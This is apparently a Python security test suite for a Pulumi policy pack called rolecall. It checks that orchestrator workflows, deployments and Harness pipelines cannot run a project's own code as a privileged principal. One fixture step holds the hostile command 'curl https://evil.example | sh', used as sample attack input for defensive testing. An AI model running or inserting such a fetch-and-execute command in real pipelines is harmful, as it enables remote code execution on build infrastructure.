"""No program lets something of its own run as a principal in an orchestrator."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
from pulumi_policy import proxy

from rolecall.policies import types
from rolecall.policies.context import Context, context_of_contract
from tests.security.programs import refused_by, resource
from tests.support.contracts import CONTRACT, compiled
from tests.support.declared import Numbering, declared, everything_deployed

RULE = "workers-run-declared-counterparts"
TEXT = CONTRACT.replace(
    "policy: small\n", "policy: small\n        counterparts: {conductor: true, harness: {in: [dev]}, prefect: true}\n"
)
TRAINER = "prod-churn-trainer"
STEP: dict[str, Any] = {
    "type": "ShellScript",
    "spec": {
        "delegateSelectors": [f"databricks-jobs-as-{TRAINER}"],
        "source": {"spec": {"script": "curl https://evil.example | sh"}},
    },
}


def _stage(inner: dict[str, Any]) -> dict[str, Any]:
    return {"stage": {"type": "Custom", "spec": {"execution": inner}}}


def _rolecalls(principal: str = TRAINER) -> dict[str, Any]:
    step = copy.deepcopy(STEP)
    step["spec"]["source"]["spec"]["script"] = "rolecall worker run"
    step["spec"]["environmentVariables"] = [{"name": "ROLECALL_PRINCIPAL", "type": "String", "value": principal}]
    return step


ATTACKS: dict[str, tuple[str, dict[str, Any]]] = {
    "a workflow of one's own": (
        types.CONDUCTOR_TASK,
        {"name": f"databricks-job-as-{TRAINER}", "jobs": {"mine": {"workspace": "w", "job_id": "1"}}},
    ),
    "another project's workflow": (
        types.CONDUCTOR_TASK,
        {"name": "databricks-job-as-prod-fraud-scorer", "jobs": {"prod-churn-train": {"workspace": "w"}}},
    ),
    "development's workflow": (
        types.CONDUCTOR_TASK,
        {"name": f"databricks-job-as-{TRAINER}", "jobs": {"dev-churn-train": {"workspace": "w"}}},
    ),
    "a deployment in a principal's pool": (
        types.PREFECT_DEPLOYMENT,
        {"name": "mine", "flow": "run-databricks-job", "workPool": f"databricks-jobs-as-{TRAINER}"},
    ),
    "a command": (types.HARNESS_PIPELINE, {"identifier": "mine", "stages": [_stage({"steps": [{"step": STEP}]})]}),
    "a command in a group": (
        types.HARNESS_PIPELINE,
        {"identifier": "mine", "stages": [_stage({"steps": [{"stepGroup": {"steps": [{"step": STEP}]}}]})]},
    ),
    "a command beside another": (
        types.HARNESS_PIPELINE,
        {"identifier": "mine", "stages": [_stage({"steps": [{"parallel": [{"step": STEP}]}]})]},
    ),
    "a command on failure": (
        types.HARNESS_PIPELINE,
        {"identifier": "mine", "stages": [_stage({"steps": [], "rollbackSteps": [{"step": STEP}]})]},
    ),
    "stages beside each other": (
        types.HARNESS_PIPELINE,
        {"identifier": "mine", "stages": [{"parallel": [_stage({"steps": [{"step": STEP}]})]}]},
    ),
    "Rolecall's command in a pipeline of one's own": (
        types.HARNESS_PIPELINE,
        {"identifier": "mine", "stages": [_stage({"steps": [{"step": _rolecalls()}]})]},
    ),
    "another principal's delegate": (
        types.HARNESS_PIPELINE,
        {"identifier": "prod_churn_train", "stages": [_stage({"steps": [{"step": _rolecalls("dev-churn-trainer")}]})]},
    ),
    "a delegate that the starter names": (
        types.HARNESS_PIPELINE,
        {
            "identifier": "mine",
            "stages": [
                _stage({"steps": [{"step": {**STEP, "spec": {"delegateSelectors": ["<+pipeline.variables.d>"]}}}]})
            ],
        },
    ),
}


@pytest.fixture(scope="module")
def contract(tmp_path_factory: pytest.TempPathFactory) -> Context:
    return context_of_contract(compiled(tmp_path_factory.mktemp("contract"), TEXT).loaded)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("known", [True, False])
def test_nothing_of_ones_own_runs_as_a_principal(attack: str, known: bool, contract: Context) -> None:
    kind, values = ATTACKS[attack]
    assert RULE in refused_by(resource(kind, values, stack="mine"), context=contract if known else Context())


@pytest.mark.parametrize(
    "stage",
    [
        {"stage": {"template": {"templateRef": "evil"}}},
        {"stage": {"type": "Pipeline", "spec": {}}},
        _stage({"steps": [{"step": {"template": {"templateRef": "evil"}}}]}),
        _stage({"steps": [{"stepGroup": {"template": {"templateRef": "evil"}}}]}),
    ],
)
def test_a_pipeline_has_no_steps_that_are_not_seen(stage: dict[str, Any], contract: Context) -> None:
    one = resource(types.HARNESS_PIPELINE, {"identifier": "mine", "stages": [stage]}, stack="mine")
    assert "pipeline-runs-on-named-delegates" in refused_by(one, context=contract)


@pytest.mark.parametrize("role", ["METADATA_MANAGER", "WORKFLOW_MANAGER", "ADMIN", "SOMETHING_NEW"])
def test_no_group_changes_all_definitions(role: str, contract: Context) -> None:
    one = resource(types.CONDUCTOR_GROUP, {"name": "eve", "roles": ["USER", role]}, stack="mine")
    assert "orchestrator-administered-by-few" in refused_by(one, context=contract)


def test_an_id_in_a_step_that_is_not_known_yet_is_no_violation(contract: Context) -> None:
    """A preview of a new job knows everything of its pipeline but the job's id."""
    step = _rolecalls("dev-churn-trainer")
    step["spec"]["delegateSelectors"] = ["databricks-jobs-as-dev-churn-trainer"]
    step["spec"]["environmentVariables"].append({"name": "ROLECALL_JOB_ID", "value": proxy.UNKNOWN_STRING_VALUE})
    values = {"identifier": "dev_churn_train", "stages": [_stage({"steps": [{"step": step}]})]}
    assert refused_by(resource(types.HARNESS_PIPELINE, values, stack="dev.churn"), context=contract) == set()


def test_rolecalls_own_pass(tmp_path: Path, contract: Context) -> None:
    found = compiled(tmp_path, TEXT)
    judged = 0
    for environment in ("dev", "prod"):
        deployed = everything_deployed(found.contract)
        for request in declared(found, f"{environment}.churn", deployed, Numbering()).requests:
            kind = str(request["type"])
            if kind in (types.CONDUCTOR_TASK, types.HARNESS_PIPELINE, types.PREFECT_DEPLOYMENT, types.CONDUCTOR_GROUP):
                judged += 1
                one = resource(kind, request["object"], stack=f"{environment}.churn")
                assert refused_by(one, context=contract) == set()
    assert judged == 5
